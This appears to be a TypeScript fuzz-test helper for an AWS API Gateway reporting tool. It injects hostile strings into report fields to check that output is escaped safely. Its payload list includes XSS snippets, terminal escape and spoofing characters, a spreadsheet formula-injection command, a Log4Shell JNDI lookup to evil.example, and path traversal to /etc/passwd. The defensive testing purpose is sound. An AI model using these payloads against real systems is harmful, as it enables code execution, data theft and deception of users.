import fc from "fast-check";
import type { TargetCoverage } from "../../src/model/coverage.ts";
import type { Finding } from "../../src/model/finding.ts";
import type { ReportInput } from "../../src/report/build.ts";
import { input } from "./fixture.ts";

const esc = String.fromCharCode(0x1b);
const character = (...codes: readonly number[]) => String.fromCodePoint(...codes);

/** What someone who may name an API could write into a name, a description, a tag or an error. */
export const hostileTexts: readonly string[] = [
  `${esc}[31mred${esc}[0m`,
  `${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\`,
  `${esc}]0;title${character(7)}`,
  `${character(0x9b)}2J`,
  `user${character(0x202e)}nimda${character(0x202c)}`,
  `${character(0x2066)}isolated${character(0x2069)}`,
  `pay${character(0x200b)}ments${character(0x200d)}${character(0xfeff)}`,
  `tag${character(0xe0041)}${character(0xe007f)}`,
  "line one\nline two\r\nline\tthree",
  `para${character(0x2028)}graph${character(0x2029)}`,
  "a | b | c",
  "a \\| b \\\\| c \\",
  "`code` ``more`` ```",
  "~~~\nfence\n~~~",
  "<script>alert(1)</script>",
  "</details></summary><img src=x onerror=alert(1)>",
  "<!-- comment -->",
  "&lt;b&gt; &#60;i&#62; &amp;",
  "![pixel](http://evil.example/pixel.png)",
  "[click](javascript:alert(1))",
  "[ref]: http://evil.example",
  "https://evil.example www.evil.example <http://evil.example> someone@evil.example",
  "www. http: xn--a.b",
  "@octocat @org/team #1 GH-1 owner/repo#2 deadbeefcafe :tada: $x^2$",
  "# heading\n> quote\n- [ ] task\n1. item\n---\n===",
  "*bold* _it_ **b** ~~s~~",
  '=cmd|"/C calc"!A1',
  "+1 -1 @SUM(1)",
  "{0} {1} {{x}} %s %n ${jndi:ldap://evil.example/a}",
  "../../../etc/passwd",
  "a".repeat(400),
  `${"word ".repeat(90)}end`,
  "支払いAPI 注文管理 結제",
  "👩‍💻 🏳️‍🌈 👍🏽 🇩🇪 ❤️ ✔",
  `z${character(0x0335).repeat(60)}algo`,
  "عربى עברית",
  "\ud800 lone \udc00",
  character(0xffff, 0xe000, 0x2800, 0x3164, 0xad),
  "",
  " ",
  `  leading and trailing ${character(0xa0)} `,
  "__proto__",
  "constructor",
];

const units = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 })
  .map((codes) => String.fromCharCode(...codes));

/** Hostile fragments in any combination, and any UTF-16 at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc
    .array(fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: "binary" })), { maxLength: 4 })
    .map((parts) => parts.join("")),
  fc
    .array(fc.constantFrom(..."`|\\<>&[]()!*_~@#:/.\n -=$+".split(""), "http://", "www.", "a"), { maxLength: 30 })
    .map((parts) => parts.join("")),
  units,
);

/** The fixture with `text` wherever AWS, or whoever configures AWS, decides the words. */
export function poison(text: string): ReportInput {
  return {
    ...input,
    findings: input.findings.map((finding) => poisonFinding(finding, text)),
    coverage: input.coverage.map((one) => poisonCoverage(one, text)),
    errors: [{ policy: "custom-stage-naming", resource: text, message: text }],
  };
}

function poisonFinding(finding: Finding, text: string): Finding {
  const { api, ...resource } = finding.resource;
  const arn = `${resource.arn}/${text}`;
  return {
    ...finding,
    message: `Stage ${text} is wrong`,
    resource: { ...resource, arn, name: text, ...(api ? { api: { ...api, name: text } } : {}) },
    evidence: [
      { path: `stage.variables[${text}]`, actual: { [`tag ${text}`]: text }, expected: text },
      { path: text, expected: text },
    ],
    remediation: { text: `Change ${text}`, command: text },
  };
}

function poisonCoverage(one: TargetCoverage, text: string): TargetCoverage {
  return {
    ...one,
    target: { ...one.target, accountName: text },
    vanished: [text],
    gaps: one.gaps.map((gap) => ({ ...gap, message: text, remedy: text, scope: `${gap.scope}${text}` })),
    unknownMembers: [{ operation: "apigateway:GetApis", path: text }],
  };
}
